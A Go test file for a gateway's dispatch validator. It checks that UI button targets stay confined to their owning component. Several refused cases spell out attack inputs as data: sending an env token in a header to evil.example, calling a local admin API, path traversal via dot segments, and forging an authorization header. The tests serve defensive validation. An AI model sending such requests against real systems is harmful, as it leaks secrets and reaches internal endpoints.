package dispatch_test

import (
	"context"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/go-json-experiment/json/jsontext"

	"github.com/toolgate/toolgate/internal/dispatch"
	"github.com/toolgate/toolgate/internal/result"
)

// Each refused case is a way a component's card could reach beyond the
// component: the review's findings, and the variants an attacker tries next.
func TestCompileButton(t *testing.T) {
	owner := testComponents(t)["api"] // declares env TOKEN and REGION
	for _, c := range []struct {
		name, target, wantErr string
	}{
		{"app on the owner", `{"type":"app","component":"api","method":"POST","path":"/items/${input.id}","body":"${input}"}`, ""},
		{"query and headers from input", `{"type":"app","component":"api","method":"GET","path":"/x","query":{"q":"${input.q}"},"headers":{"X-Id":"${input.id}"}}`, ""},
		{"an escaped env is literal text", `{"type":"app","component":"api","method":"POST","path":"/x","body":{"note":"$${env.TOKEN}"}}`, ""},

		{"url target: the admin API", `{"type":"url","method":"GET","url":"http://localhost:2019/config/","result":"body"}`, `not a "url" target`},
		{"url target sending env", `{"type":"url","component":"api","method":"POST","url":"https://evil.example/","headers":{"X-Key":"${env.TOKEN}"}}`, `not a "url" target`},
		{"client tool", `{"type":"kazzle","name":"where"}`, `not a "kazzle" target`},
		{"no type", `{"component":"api","method":"GET","path":"/x"}`, `not a "" target`},
		{"type in another case", `{"type":"App","component":"api","method":"GET","path":"/x"}`, `not a "App" target`},
		{"a later key of another case wins", `{"type":"app","Type":"url","component":"api","method":"GET","url":"http://localhost:2019/"}`, `not a "url" target`},
		{"another component", `{"type":"app","component":"slash","method":"DELETE","path":"/data"}`, `component "slash": a button runs on component "api"`},
		{"no component", `{"type":"app","method":"GET","path":"/x"}`, `component "": a button runs on component "api"`},
		{"result mapping on an app target", `{"type":"app","component":"api","method":"GET","path":"/x","result":"body"}`, "no result mapping"},
		{"env in a header", `{"type":"app","component":"api","method":"GET","path":"/x","headers":{"X-Key":"${env.TOKEN}"}}`, "${env.TOKEN}: a button may reference ${input…} only"},
		{"env deep in the body", `{"type":"app","component":"api","method":"POST","path":"/x","body":{"a":[1,{"k":"key=${env.TOKEN}"}]}}`, "${env.TOKEN}: a button may reference ${input…} only"},
		{"env in the path", `{"type":"app","component":"api","method":"GET","path":"/${env.REGION}"}`, "never env"},
		{"env in a query value", `{"type":"app","component":"api","method":"GET","path":"/x","query":{"k":"${env.TOKEN}"}}`, "never env"},
		{"env the owner does not declare", `{"type":"app","component":"api","method":"GET","path":"/x","headers":{"X":"${env.OTHER}"}}`, "never env"},
		{"the identity header", `{"type":"app","component":"api","method":"GET","path":"/x","headers":{"authorization":"Bearer x"}}`, "belongs to the gateway"},
		{"a dot segment", `{"type":"app","component":"api","method":"GET","path":"/a/../admin"}`, "dot segments"},
		{"a url on an app target", `{"type":"app","component":"api","method":"GET","url":"http://localhost:2019/"}`, "url is for url targets"},
		{"unknown field", `{"type":"app","component":"api","method":"GET","path":"/x","host":"localhost:2019"}`, "unknown field"},
		{"data after the object", `{"type":"app","component":"api","method":"GET","path":"/x"} {}`, "data after the object"},
		{"not an object", `"app"`, "target:"},
	} {
		t.Run(c.name, func(t *testing.T) {
			tgt, err := dispatch.CompileButton(jsontext.Value(c.target), owner)
			if c.wantErr == "" {
				if err != nil {
					t.Fatal(err)
				}
				if tgt.Spec.Type != dispatch.TypeApp || tgt.Component != owner || tgt.Mapping != nil {
					t.Errorf("compiled %+v", tgt.Spec)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), c.wantErr) {
				t.Fatalf("err %v, want %q", err, c.wantErr)
			}
			if tgt != nil {
				t.Error("a target returned with an error")
			}
			if strings.Contains(err.Error(), "s3cret") || strings.Contains(err.Error(), "eu/west") {
				t.Errorf("the error shows an env value: %v", err)
			}
		})
	}
}

// A button's request goes to the owner's base URL with the input's values,
// and an escaped env reference stays literal text.
func TestCompileButtonRequest(t *testing.T) {
	owner := testComponents(t)["api"]
	tgt, err := dispatch.CompileButton(jsontext.Value(`{"type":"app","component":"api","method":"POST","path":"/items/${input.id}","body":{"id":"${input.id}","note":"$${env.TOKEN}"}}`), owner)
	if err != nil {
		t.Fatal(err)
	}
	req, err := tgt.Request(context.Background(), map[string]any{"id": "a b?c"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(req.Body)
	if got := req.URL.String(); got != "http://api.internal:8080/base/items/a%20b%3Fc" {
		t.Errorf("URL %s", got)
	}
	if string(body) != `{"id":"a b?c","note":"${env.TOKEN}"}` {
		t.Errorf("body %s", body)
	}
}

func TestCompileButtonWithoutOwner(t *testing.T) {
	_, err := dispatch.CompileButton(jsontext.Value(`{"type":"app","component":"api","method":"GET","path":"/x"}`), nil)
	if !errors.Is(err, result.ErrCardNotFromApp) {
		t.Errorf("err %v, want ErrCardNotFromApp", err)
	}
}

// CheckButton is CompileButton for a component that does not know the
// gateway's name or base URL for itself.
func TestCheckButton(t *testing.T) {
	for _, c := range []struct {
		name, target, owner, wantErr string
	}{
		{"app target", `{"type":"app","component":"mail","method":"POST","path":"/drafts/${input.id}"}`, "", ""},
		{"app target on the owner", `{"type":"app","component":"mail","method":"POST","path":"/drafts"}`, "mail", ""},
		{"app target on another", `{"type":"app","component":"files","method":"DELETE","path":"/all"}`, "mail", `component "files": a button runs on component "mail"`},
		{"url target", `{"type":"url","method":"GET","url":"http://localhost:2019/config/"}`, "", `not a "url" target`},
		{"no component", `{"type":"app","method":"GET","path":"/x"}`, "", "component is required"},
		{"env", `{"type":"app","component":"mail","method":"GET","path":"/x","headers":{"X":"${env.KEY}"}}`, "", "never env"},
		{"result", `{"type":"app","component":"mail","method":"GET","path":"/x","result":"body"}`, "", "no result mapping"},
		{"bad method", `{"type":"app","component":"mail","method":"TRACE","path":"/x"}`, "", "method"},
		{"relative path", `{"type":"app","component":"mail","method":"GET","path":"x"}`, "", "must start with /"},
	} {
		t.Run(c.name, func(t *testing.T) {
			err := dispatch.CheckButton(jsontext.Value(c.target), c.owner)
			if c.wantErr == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), c.wantErr) {
				t.Fatalf("err %v, want %q", err, c.wantErr)
			}
		})
	}
}
